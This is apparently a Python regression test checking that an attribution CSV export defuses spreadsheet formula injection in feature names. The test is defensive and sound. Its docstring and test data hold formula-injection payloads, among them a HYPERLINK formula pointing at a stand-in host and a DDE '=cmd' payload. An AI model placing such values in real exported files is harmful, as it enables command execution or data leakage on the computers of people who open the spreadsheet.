"""Attack A1: a feature name is text a model's uploader chose (its spec); the Output page's
"Download attributions (.csv)" wrote it into a cell as given, so '=HYPERLINK(...)' or
'=cmd|' /C calc'!A0' ran as a formula in the spreadsheet of whoever opened the download. Its cells are
defused as the audit log's CSV already was (a leading = + - @ tab or CR gets a "'")."""
from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import numpy as np

from explain.attribution import Attribution
from ui.attribution_view import attributions_csv

NAMES = ["=HYPERLINK(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", "@SUM(1)", "age"]


def test_attribution_csv_defuses_formulas_and_keeps_numbers():
    spec = SimpleNamespace(input_shape=(4,), feature_names=NAMES)
    model = SimpleNamespace(modality="tabular", spec=spec)
    values = np.array([[-0.5, 0.25, 1.0, -2.0]])
    attr = Attribution(values=values, inputs=np.zeros((1, 4)), target=np.array([1]), method="saliency")
    rows = list(csv.DictReader(io.StringIO(attributions_csv(model, [attr]).decode())))
    assert [r["position"] for r in rows] == ["'" + n for n in NAMES[:3]] + ["age"]
    assert [float(r["attribution"]) for r in rows] == [-0.5, 0.25, 1.0, -2.0]  # numbers stay numbers
    assert {r["method"] for r in rows} == {"saliency"} and {r["target"] for r in rows} == {"1"}
